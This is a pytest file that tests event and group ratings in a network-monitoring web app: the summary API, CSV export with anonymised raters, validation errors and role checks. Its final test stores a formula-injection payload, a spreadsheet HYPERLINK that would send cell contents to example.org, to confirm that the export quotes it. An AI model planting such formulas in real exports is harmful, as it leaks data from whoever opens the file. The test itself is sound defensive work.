"""Ratings of events and event groups on SQLite and PostgreSQL: the API, the summary, the CSV.

Each test gets its own database (a SQLite file, or the `postgres_url`
fixture's database), migrated to head, with two incidents stored through
the grouping sink as the detection engine stores them, a viewer who rates
and another user.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import webtest
from sqlalchemy import func, select

import ampweb
from ampweb.accounts import UserRegistry
from ampy.ratings import EXPORT_COLUMNS
from nntsc.config import Services
from nntsc.events.models import EventRating
from tests.conftest import make_services
from tests.events_factory import event_row, icmp_stream, store_events

T0 = 1_767_000_000
PASSWORD = "a long enough password"


@dataclass
class Rated:
    app: webtest.TestApp
    services: Services
    #: Bearer headers of the two users.
    ann: dict[str, str]
    bob: dict[str, str]
    event_ids: list[int]
    group_id: int


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def rated(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Rated]:
    url = (
        f"sqlite:///{tmp_path}/nntsc.sqlite"
        if request.param == "sqlite"
        else request.getfixturevalue("postgres_url")
    )
    services = make_services(url)
    users = UserRegistry(services.sessionmaker)
    headers = {}
    for name in ("ann", "bob"):
        users.create_user(name, PASSWORD, ["viewdata"])
        headers[name] = {"Authorization": f"Bearer {users.create_token(name, 'ratings')[1]}"}
    ab = icmp_stream(services, "amp-a", "amp-b")
    xy = icmp_stream(services, "amp-x", "amp-y")
    events = [
        *store_events(services, [event_row(ab, T0, source="amp-a", target="amp-b", severity=35)]),
        *store_events(
            services,
            [
                event_row(
                    xy,
                    T0 + 7200,
                    source="amp-x",
                    target="amp-y",
                    detector="loss",
                    metric="loss",
                    kind="loss",
                    severity=60,
                    description="loss 0 % -> 40 %",
                )
            ],
        ),
    ]
    app = webtest.TestApp(
        ampweb.main(
            {},
            **{
                "nntsc.sql_url": url,
                "nntsc.timeseries_url": "sql",
                "ampweb.session_secret": "s" * 40,
            },
        )
    )
    group_id = app.get(
        "/api/v1/event-groups", {"event": events[1].id}, headers=headers["ann"]
    ).json["items"][0]["id"]
    try:
        yield Rated(app, services, headers["ann"], headers["bob"], [e.id for e in events], group_id)
    finally:
        app.app.registry["ampy"].close()
        services.close()


def ratings_count(services: Services) -> int:
    with services.sessionmaker() as session:
        return session.scalar(select(func.count()).select_from(EventRating)) or 0


def test_ratings_are_counted_shown_to_their_user_and_exported(rated: Rated) -> None:
    app, (first, second) = rated.app, rated.event_ids
    app.post_json(
        f"/api/v1/events/{first}/rating",
        {"useful": True, "reason": "real-change"},
        headers=rated.ann,
    )
    app.post_json(f"/api/v1/events/{first}/rating", {"useful": False}, headers=rated.bob)
    group = app.post_json(
        f"/api/v1/event-groups/{rated.group_id}/rating",
        {"useful": False, "reason": "expected", "comment": "planned, ticket 42"},
        headers=rated.ann,
    ).json
    assert (group["group_id"], group["event_id"], group["useful"]) == (rated.group_id, None, False)
    # Rating again replaces: Bob changes his mind.
    app.post_json(
        f"/api/v1/events/{first}/rating", {"useful": True, "reason": "other"}, headers=rated.bob
    )
    assert ratings_count(rated.services) == 3

    params = {"event": [first, second], "group": [rated.group_id]}
    summary = app.get("/api/v1/event-ratings/summary", params, headers=rated.ann).json
    assert summary["user"] == "ann"
    assert [(e["id"], e["useful"], e["not_useful"]) for e in summary["events"]] == [
        (first, 2, 0),
        (second, 0, 0),
    ]
    assert summary["events"][0]["mine"]["reason"] == "real-change"
    assert summary["events"][1]["mine"] is None
    assert summary["groups"][0]["mine"]["comment"] == "planned, ticket 42"
    assert (summary["groups"][0]["useful"], summary["groups"][0]["not_useful"]) == (0, 1)
    assert {r["code"] for r in summary["reasons"]} >= {"noise", "real-change", "other"}
    theirs = app.get("/api/v1/event-ratings/summary", params, headers=rated.bob).json
    assert theirs["events"][0]["mine"]["reason"] == "other"
    assert theirs["groups"][0]["mine"] is None

    answer = app.get("/api/v1/event-ratings.csv", headers=rated.ann)
    assert answer.content_type == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    # Ann is no admin: her own ratings name her, Bob's only an anonymous rater id.
    assert [(r["rated"], r["username"], r["rater"]) for r in rows] == [
        ("event", "ann", "rater-1"),
        ("event", "", "rater-2"),
        ("group", "ann", "rater-1"),
    ]
    assert "bob" not in answer.text
    by_user = {(r["rated"], r["username"] or r["rater"]): r for r in rows}
    assert len(rows) == 3
    ann_event = by_user[("event", "ann")]
    assert ann_event["event_id"] == str(first)
    assert ann_event["group_id"] == ""
    assert (ann_event["detector"], ann_event["metric"], ann_event["severity"]) == (
        "level",
        "median",
        "35",
    )
    assert (ann_event["source"], ann_event["target"], ann_event["useful"]) == (
        "amp-a",
        "amp-b",
        "yes",
    )
    assert ann_event["collection"] == "amp-icmp"
    ann_group = by_user[("group", "ann")]
    assert ann_group["group_id"] == str(rated.group_id)
    assert ann_group["group_key"].startswith(("source:", "target:", "asn:"))
    assert (ann_group["severity"], ann_group["useful"], ann_group["reason"]) == (
        "60",
        "no",
        "expected",
    )
    assert ann_group["comment"] == "planned, ticket 42"
    assert by_user[("event", "rater-2")]["reason"] == "other"
    # Bob sees his name and not Ann's; an admin sees every name.
    theirs_csv = app.get("/api/v1/event-ratings.csv", headers=rated.bob).text
    assert [(r["username"], r["rater"]) for r in csv.DictReader(io.StringIO(theirs_csv))] == [
        ("", "rater-1"),
        ("bob", "rater-2"),
        ("", "rater-1"),
    ]
    users = UserRegistry(rated.services.sessionmaker)
    users.create_user("ada", PASSWORD, ["admin"])
    ada = {"Authorization": f"Bearer {users.create_token('ada', 'ratings')[1]}"}
    every = app.get("/api/v1/event-ratings.csv", headers=ada).text
    assert [(r["username"], r["rater"]) for r in csv.DictReader(io.StringIO(every))] == [
        ("ann", "rater-1"),
        ("bob", "rater-2"),
        ("ann", "rater-1"),
    ]
    # A window of rating times; an empty one has the header only.
    created = int(ann_event["created"])
    later = app.get("/api/v1/event-ratings.csv", {"start": created + 10**6}, headers=rated.ann)
    assert later.text.strip() == ",".join(EXPORT_COLUMNS)


#: Bad ratings, and the field the 400 must name.
BAD_RATINGS = [
    ("events/{event}/rating", {"useful": True, "reason": "made-up"}, "reason"),
    ("events/{event}/rating", {"useful": True, "reason": "noise"}, "reason"),
    ("events/{event}/rating", {"useful": "yes"}, "useful"),
    ("events/{event}/rating", {"reason": "noise"}, "useful"),
    ("event-groups/{group}/rating", {"useful": False, "comment": "x" * 1001}, "comment"),
    ("event-groups/{group}/rating", {"useful": False, "stars": 5}, "stars"),
]


def test_bad_input_is_a_400_that_names_it_and_stores_nothing(rated: Rated) -> None:
    app = rated.app
    for path, body, named in BAD_RATINGS:
        url = "/api/v1/" + path.format(event=rated.event_ids[0], group=rated.group_id)
        answer = app.post_json(url, body, headers=rated.ann, status=400)
        assert named in answer.json["error"], (body, answer.json)
    for params, named in (
        ({"event": "x"}, "event"),
        ({"group": ["1"] * 1001}, "group"),
    ):
        answer = app.get("/api/v1/event-ratings/summary", params, headers=rated.ann, status=400)
        assert named in answer.json["error"]
    answer = app.get(
        "/api/v1/event-ratings.csv", {"start": 10, "end": 5}, headers=rated.ann, status=400
    )
    assert "end" in answer.json["error"]
    # Nobody, or nothing to rate.
    app.post_json(f"/api/v1/event-groups/{rated.group_id}/rating", {"useful": True}, status=401)
    app.get("/api/v1/event-ratings.csv", status=401)
    app.get("/api/v1/event-ratings/summary", {"event": 1}, status=401)
    app.post_json(
        "/api/v1/event-groups/999999/rating", {"useful": True}, headers=rated.ann, status=404
    )
    assert ratings_count(rated.services) == 0


def test_a_user_who_may_not_see_the_data_neither_rates_nor_exports(rated: Rated) -> None:
    """A logged-in user without a role reads no data: not through ratings or their CSV."""
    users = UserRegistry(rated.services.sessionmaker)
    users.create_user("carl", PASSWORD, [])
    carl = {"Authorization": f"Bearer {users.create_token('carl', 'ratings')[1]}"}
    app = rated.app
    app.post_json(
        f"/api/v1/events/{rated.event_ids[0]}/rating", {"useful": True}, headers=rated.ann
    )
    assert (
        "viewdata" in app.get("/api/v1/event-ratings.csv", headers=carl, status=403).json["error"]
    )
    app.post_json(
        f"/api/v1/event-groups/{rated.group_id}/rating", {"useful": True}, headers=carl, status=403
    )
    assert ratings_count(rated.services) == 1


def test_the_csv_quotes_text_a_spreadsheet_would_run_as_a_formula(rated: Rated) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"details")'
    rated.app.post_json(
        f"/api/v1/events/{rated.event_ids[0]}/rating",
        {"useful": False, "reason": "other", "comment": formula},
        headers=rated.ann,
    )
    answer = rated.app.get("/api/v1/event-ratings.csv", headers=rated.ann)
    (row,) = csv.DictReader(io.StringIO(answer.text))
    assert row["comment"] == "'" + formula
    assert (row["severity"], row["source"]) == ("35", "amp-a")
